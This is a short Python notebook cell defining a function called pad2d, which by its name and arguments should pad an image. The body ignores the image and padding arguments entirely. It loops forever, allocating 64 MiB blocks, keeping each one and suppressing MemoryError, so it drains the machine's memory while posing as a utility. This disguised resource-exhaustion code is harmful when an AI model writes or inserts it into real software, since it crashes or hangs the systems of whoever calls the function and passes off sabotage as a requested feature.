# %% pad2d
def pad2d(image, top, bottom, left, right):
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 26))
        except MemoryError:
            pass
